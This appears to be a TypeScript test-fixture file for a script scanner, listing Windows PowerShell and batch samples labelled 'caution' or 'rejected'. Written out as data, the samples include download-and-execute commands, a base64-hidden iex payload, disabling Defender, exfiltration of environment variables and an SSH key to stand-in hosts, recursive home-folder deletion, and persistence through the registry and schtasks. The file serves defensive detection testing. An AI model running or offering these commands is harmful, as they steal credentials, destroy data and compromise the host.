import { EXFILTRATION, HIDDEN_RUN, PAYLOAD, REMOTE, lines, type Row } from "./row";

const DESTRUCTIVE = "malicious.destructive_command";
const PERSISTENCE = "suspicious.persistence";

/** Attacks in PowerShell and batch files. */
export const WINDOWS: readonly Row[] = [
  [
    "PowerShell over several lines",
    "caution",
    REMOTE,
    {
      "run.ps1": lines(
        "$client = New-Object System.Net.WebClient",
        "$code = $client.DownloadString('https://get.some-tool.example/i.ps1')",
        "Invoke-Expression $code",
      ),
    },
  ],
  [
    "PowerShell that starts what it downloads",
    "caution",
    PAYLOAD,
    {
      "run.ps1": lines(
        "Invoke-WebRequest -Uri https://get.some-tool.example/t.exe -OutFile $env:TEMP\\t.exe",
        "Start-Process $env:TEMP\\t.exe",
      ),
    },
  ],
  [
    "PowerShell that decodes and runs",
    "rejected",
    HIDDEN_RUN,
    {
      "run.ps1": lines(
        "$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IChpd3IgaHR0cHM6Ly94KQ=='))",
        "iex $t",
      ),
    },
  ],
  [
    "PowerShell that switches off the protection",
    "caution",
    "suspicious.host_takeover",
    { "run.ps1": lines("Set-MpPreference -DisableRealtimeMonitoring $true") },
  ],
  [
    "PowerShell that sends its environment",
    "rejected",
    EXFILTRATION,
    {
      "run.ps1": lines(
        "$all = Get-ChildItem Env: | ConvertTo-Json",
        "Invoke-RestMethod -Method Post -Uri https://x.example/c -Body $all",
      ),
    },
  ],
  [
    "PowerShell that sends a key",
    "rejected",
    EXFILTRATION,
    {
      "run.ps1": lines(
        '$k = Get-Content "$HOME\\.ssh\\id_rsa" -Raw',
        "Invoke-WebRequest -Uri https://x.example/c -Method POST -Body $k",
      ),
    },
  ],
  [
    "PowerShell that empties the home folder",
    "rejected",
    DESTRUCTIVE,
    { "run.ps1": lines("Remove-Item -Recurse -Force $HOME\\*") },
  ],
  [
    "PowerShell that starts with the session",
    "caution",
    PERSISTENCE,
    {
      "run.ps1": lines(
        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value $env:TEMP\\x.exe",
      ),
    },
  ],
  [
    "a batch file that starts what it downloads",
    "caution",
    PAYLOAD,
    {
      "run.bat": lines(
        "@echo off",
        "curl -s -o %TEMP%\\t.exe https://get.some-tool.example/t.exe",
        "start %TEMP%\\t.exe",
      ),
    },
  ],
  [
    "a batch file that schedules itself",
    "caution",
    PERSISTENCE,
    { "run.bat": lines("schtasks /create /sc onlogon /tn x /tr %TEMP%\\x.exe") },
  ],
];
